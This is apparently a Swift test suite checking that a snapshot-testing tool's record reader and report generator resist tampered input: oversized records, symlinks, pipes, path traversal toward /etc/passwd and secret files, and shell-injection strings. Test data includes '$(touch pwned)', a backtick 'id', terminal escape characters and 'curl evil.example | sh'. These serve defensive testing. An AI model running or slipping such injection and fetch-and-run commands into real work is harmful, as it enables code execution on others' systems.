import Foundation
import PortalRaster
import TestSupport
import Testing

@testable import PortalSnapshot

/// Records that were tampered with, as they are read, and shown in reports.
@Suite("Records that are read are untrusted input")
struct ReadRecordsTests {
  private let court: Court

  init() throws {
    court = try Court()
  }

  @Test("an environment of more lines than one can have is none, and is not kept")
  func manyLines() throws {
    _ = try court.missing()
    let names = try FileManager.default.contentsOfDirectory(atPath: court.artifacts)
    let file = court.artifacts + "/" + (try #require(names.first { $0.hasSuffix(".jsonl") }))
    let text = String(decoding: try Files.read(file), as: UTF8.self)
    #expect(try RecordReader.read([file]).records.contains { $0.environment != nil })
    let many = text.replacing(#""lines":["#, with: #""lines":["# + String(repeating: #""a","#, count: 1000))
    #expect(many != text)
    try Files.write(Array(many.utf8), to: file)
    #expect(try RecordReader.read([file]).records.allSatisfy { $0.environment == nil })
  }

  @Test("what a run kept is read where its records were, and through no link that lies there by now")
  func turnedLink() throws {
    _ = try court.missing()
    let place = NamedFolder(court.artifacts, real: Files.realPath(court.artifacts))
    let record = try #require(try RecordReader.read(place).records.first { !$0.files.isEmpty })
    let file = try #require(record.files.first).path
    let bytes = try KeptFiles(of: record).read(file)
    #expect(!bytes.isEmpty)
    #expect(rename(court.artifacts, court.folder + "/was") == 0 && symlink("was", court.artifacts) == 0)
    #expect { try KeptFiles(of: record).read(file) } throws: { ($0 as? FileError)?.reason == .throughLink }
    // A call that names the folder itself goes where that leads.
    let named = try #require(try RecordReader.read([court.artifacts]).records.first { !$0.files.isEmpty })
    #expect(try KeptFiles(of: named).read(file) == bytes)
  }

  @Test("records of more environments than a run has machines are an error, and equal ones are one")
  func environments() throws {
    let begin = try #require(try court.missing().records.first { $0.environment != nil })
    func read(_ count: Int, _ ink: (Int) -> String) throws -> RunRecords {
      let lines = (0..<count).map { number in
        var record = begin
        record.environment?.ink = ink(number)
        return record.line + "\n"
      }
      try Files.makeFolder(court.folder + "/many")
      try Files.write(Array(lines.joined().utf8), to: court.folder + "/many/1.jsonl")
      return try RecordReader.read([court.folder + "/many"])
    }
    #expect(try read(1001) { "\($0 % 1000)" }.records.count == 1001)
    #expect {
      try read(1001) { "\($0)" }
    } throws: {
      "\($0)".contains("records of more than 1000 environments")
    }
  }

  @Test("an environment is looked at once, however many records have it")
  func environmentOnce() throws {
    try court.record("other")
    let read = try court.missing()
    var large = try Court.fingerprint.get()
    large.lines = (0..<1000).map { "library\($0) " + String(repeating: "1", count: 180) }
    let record = try #require(read.records.last { $0.event == .assertion })
    let many = (0..<500).map { number in
      var record = record
      (record.name, record.fingerprint) = ("card\(number)", large.id)
      return record
    }
    var outcomes: [Result<String, any Error>] = []
    let seconds = ThreadTime.seconds {
      outcomes = Acceptance(root: ReferenceRoot(base: court.folder)).accept(many, environments: [large.id: large])
    }
    #expect(outcomes.allSatisfy { "\($0)".contains("it was drawn in another environment than other.png") })
    #expect(seconds < 2)
  }

  @Test("a record with a path longer than a system's is none")
  func longPaths() throws {
    let record = try #require(try court.missing().records.last { $0.event == .assertion })
    #expect(RunRecord(record.value) != nil)
    for part in [\RunRecord.folder, \.name, \.ending, \.test] {
      var long = record
      long[keyPath: part] = String(repeating: "a/", count: 2049)
      #expect(RunRecord(long.value) == nil)
    }
    #expect(throws: FileError.self) {
      try ConfinedFolder(String(repeating: "a/", count: 2049), beneath: court.folder, makes: true)
    }
  }

  @Test("a folder of records may be a symlink; a symlink or a pipe in it is an error, and does not block")
  func folders() throws {
    _ = try court.missing()
    try FileManager.default.moveItem(atPath: court.artifacts, toPath: court.folder + "/real")
    symlink("real", court.folder + "/named")
    #expect(try RecordReader.read([court.folder + "/named"]).records.count == 2)
    mkfifo(court.folder + "/real/000002.jsonl", 0o600)
    #expect(throws: FileError.self) { try RecordReader.read([court.folder + "/real"]) }
    try Files.remove(court.folder + "/real/000002.jsonl")
    symlink("/etc/passwd", court.folder + "/real/000002.jsonl")
    #expect(throws: FileError.self) { try RecordReader.read([court.folder + "/real"]) }
  }

  // MARK: Reports

  @Test("a page embeds the run's artefacts and references, and no other file of this machine")
  func attachments() throws {
    let read = try court.missing()
    var record = try #require(read.records.last { $0.event == .assertion })
    func attached(_ what: String, _ path: String, digest: String? = nil) -> Int {
      record.files = [RunRecord.File(what: what, path: path, digest: digest)]
      return SnapshotReport([record]).attachments(root: ReferenceRoot(base: court.folder)).count
    }
    // A run's own artefact is embedded by the digest in its record.
    let files = record.files
    for file in files { #expect(attached(file.what, file.path, digest: file.digest) == 1) }
    #expect(files.count == 2 && attached("now", "card.png") == 0)
    #expect(attached("text", "card.txt") == 1)
    try court.record()
    #expect(attached("reference", "__Snapshots__/card.png") == 1)
    #expect(attached("reference", "__Snapshots__/card.txt") == 1)
    let secret = Array("AWS_SECRET=x\n".utf8)
    try Files.write(secret, to: court.folder + "/secret.txt")
    try Files.write(secret, to: court.artifacts + "/secret.txt")
    try Files.write(try court.bytes("card.png"), to: court.folder + "/photo.png")
    // References that no manifest knows, and what another run kept.
    try Files.write(try court.bytes("card.png"), to: court.artifacts + "/other.png")
    try Files.write(try court.bytes("card.png"), to: court.references + "/other.png")
    symlink("../photo.png", court.artifacts + "/photo.png")
    try Files.makeFolder(court.folder + "/.ssh")
    try Files.write(try court.bytes("card.png"), to: court.folder + "/.ssh/photo.png")
    for path in [
      "../secret.txt", "secret.txt", "../photo.png", "photo.png", "other.png", "/etc/passwd",
      court.folder + "/photo.png", "__Snapshots__/manifest.jsonl",
    ] {
      for what in ["now", "text", "once"] { #expect(attached(what, path) == 0, "\(what) \(path)") }
    }
    for path in [
      "secret.txt", "../\(court.folder.split(separator: "/").last ?? "")/photo.png", "/etc/passwd", ".ssh/photo.png",
      "artifacts/photo.png", "photo.png", "__Snapshots__/other.png", "__Snapshots__/manifest.jsonl",
    ] {
      #expect(attached("reference", path) == 0, "\(path)")
    }
    // A hidden file, though a manifest lists it.
    try Files.write(secret, to: court.references + "/.env")
    var manifest = try ReferenceFolder(court.references).manifest()
    try manifest.set(ReferenceEntry(name: ".env", file: ContentDigest(secret)), in: nil)
    try court.write(manifest.bytes, to: "manifest.jsonl")
    record.reference = RunRecord.Content(digest: ContentDigest(secret).description)
    #expect(attached("reference", "__Snapshots__/.env") == 0)
  }

  @Test("a page embeds both of two files whose names differ in how an accent is written alone")
  func accents() throws {
    var record = try #require(try court.missing().records.last { $0.event == .assertion })
    let kept = try #require(record.files.first { $0.what == "now" })
    record.files = try ["\u{E9}.png", "e\u{301}.png"].map { name in
      try Files.write(Files.read(court.artifacts + "/card.png"), to: "\(court.artifacts)/\(name)")
      return RunRecord.File(what: "now", path: name, digest: kept.digest)
    }
    let report = SnapshotReport([record])
    let attachments = report.attachments(root: ReferenceRoot(base: court.folder))
    #expect(attachments.count == 2 && report.omission(of: attachments) == nil)
    #expect(report.omission(of: Array(attachments.prefix(1))) != nil)
  }

  @Test("a page's files are read once however they are spelled, and count whether they are embedded or not")
  func readOnce() throws {
    var record = try #require(try court.missing().records.last { $0.event == .assertion })
    let files = record.files
    let stranger = [UInt8](repeating: 0, count: 1000)
    try Files.write(stranger, to: court.artifacts + "/stranger.png")
    let root = ReferenceRoot(base: court.folder)
    let size = SnapshotReport([record]).attachments(root: root).reduce(0) { $0 + $1.bytes.count }
    func attached(_ files: [RunRecord.File], limit: Int) -> Int {
      record.files = files
      return SnapshotReport([record]).attachments(root: root, limit: limit).count
    }
    func strange(_ paths: [String]) -> [RunRecord.File] { paths.map { RunRecord.File(what: "once", path: $0) } }
    let one = strange(["stranger.png"])
    #expect(attached(files, limit: size) == 2)
    #expect(attached(one + files, limit: size + 999) == 1)
    let spelled = strange(["stranger.png", "./stranger.png", ".//stranger.png", "a/../stranger.png"])
    #expect(attached(spelled + files, limit: size + 1000) == 2)
    #expect(attached(strange((0..<16).map { "missing\($0).png" }) + files, limit: size) == 0)
  }

  @Test("a report's commands are built anew, not copied from records, and quoted for the shell")
  func commands() throws {
    var record = RunRecord(run: "1", event: .assertion)
    record.outcome = .failed
    record.name = "$(touch pwned)"
    record.folder = "it's"
    record.accept = "curl evil.example | sh"
    record.cluster = "`id`"
    record.message = "\u{1B}]0;pwned\u{7}\u{202E}differs"
    let report = SnapshotReport([record, record], from: ["my records"])
    #expect(
      report.results[0].accept == #"portal-render accept 'my records' --only 'it'\''s/$(touch pwned).png'"#)
    #expect(report.clusters[0].accept == "portal-render accept 'my records' --cluster '`id`'")
    let all = report.githubAnnotations.joined() + report.githubSummary + report.junit + JSONWriter.text(of: report.json)
    #expect(!all.contains("evil.example"))
    #expect(!(report.githubAnnotations.joined() + report.githubSummary).contains { "\u{1B}\u{7}\u{202E}".contains($0) })
  }

  @Test("more records than memory has room for are an error, and so are files of other lines")
  func manyRecords() throws {
    let line = #"{"v":1,"run":"","event":"end"}"# + "\n"
    try Files.makeFolder(court.folder + "/many")
    try Files.write(Array(String(repeating: line + "\n\n", count: 50).utf8), to: court.folder + "/many/1.jsonl")
    #expect(try RecordReader.read([court.folder + "/many"], most: 50).records.count == 50)
    #expect {
      try RecordReader.read([court.folder + "/many"], most: 49)
    } throws: {
      "\($0)".contains("there are more than 49 records")
    }
    try Files.write(Array(String(repeating: "x\n", count: 150).utf8), to: court.folder + "/many/2.jsonl")
    let problems = try RecordReader.read([court.folder + "/many"]).problems
    #expect(problems.count == 101 && problems.last?.message == "there are 50 more lines that are no whole records")
    try Files.write(Array(String(repeating: "x\n", count: 10_200).utf8), to: court.folder + "/many/2.jsonl")
    #expect {
      try RecordReader.read([court.folder + "/many"])
    } throws: {
      "\($0)".contains("more than 10000 lines are no records")
    }
  }
}
